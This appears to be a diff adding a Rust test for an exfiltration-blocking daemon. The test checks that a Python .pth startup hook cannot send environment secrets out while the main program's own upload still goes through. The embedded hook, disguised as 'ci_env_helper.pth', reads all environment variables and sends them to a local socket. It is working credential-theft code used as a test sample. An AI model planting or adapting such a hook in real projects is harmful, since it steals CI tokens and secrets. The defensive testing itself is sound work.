@@ -765,3 +765,77 @@ kill $srv
         "the alert names the metadata service as the credential: {alert:#}"
     );
 }
+
+/// Secrets in the interpreter's environment (a CI job's token) are read from `os.environ`,
+/// in memory, where no sensor sees a read: the hook has them from its first instruction.
+/// Its upload is denied; the main program, sending the same token to its own service (a
+/// release upload), is not.
+#[test]
+fn a_hook_sending_environment_secrets_is_denied_and_the_main_program_is_not() {
+    if !can_run() {
+        return;
+    }
+    let sb = Sandbox::new("envsecret");
+    let evil = TcpSink::start();
+    let legit = TcpSink::start();
+    let token = format!("ghp_{}", sb.canary);
+    let child = format!(
+        "import os, socket
+home = os.path.expanduser('~')
+blob = '\\n'.join('%s=%s' % kv for kv in os.environ.items()).encode()
+try:
+    s = socket.create_connection(('127.0.0.1', {port}), timeout=5)
+    s.sendall(blob)
+    r = 'sent'
+except OSError as e:
+    r = 'error %d' % e.errno
+with open(os.path.join(home, 'payload.done'), 'w') as f:
+    f.write(r)
+",
+        port = evil.port
+    );
+    sb.pth("ci_env_helper.pth", &spawning_pth_line(&child));
+    let main = format!(
+        "import os, socket
+s = socket.create_connection(('127.0.0.1', {}), timeout=5)
+s.sendall(os.environ['GITHUB_TOKEN'].encode())
+s.close()
+print('main sent')
+",
+        legit.port
+    );
+    let daemon = Daemon::start("block", &[]);
+    let (code, out) = run_bounded(
+        sb.command(PYTHON)
+            .args(["-c", &main])
+            .env("GITHUB_TOKEN", &token)
+            .env("CI", "true"),
+        Duration::from_secs(60),
+    );
+    let done = wait_marker(&sb, Duration::from_secs(20));
+    let alert = exfil_alert(&daemon);
+    let alerts = daemon.stop();
+    assert_eq!(code, 0, "{out}");
+    assert!(out.contains("main sent"), "{out}");
+    assert!(
+        wait_until(Duration::from_secs(5), || legit.received().contains(&token)),
+        "the main program's own upload must go through"
+    );
+    assert_eq!(
+        done.as_deref(),
+        Some("error 1"),
+        "the hook's upload is denied"
+    );
+    assert!(!evil.received().contains(&token), "the token got out");
+    let alert = alert.unwrap_or_else(|| panic!("no exfiltration alert in {alerts:#?}"));
+    assert!(
+        alert["credentials"].as_array().is_some_and(|c| c
+            .iter()
+            .any(|p| p.as_str().is_some_and(|p| p.contains("GITHUB_TOKEN")))),
+        "the alert names the variable, never its value: {alert:#}"
+    );
+    assert!(
+        !alert.to_string().contains(&token),
+        "the secret's value is never in an alert"
+    );
+}
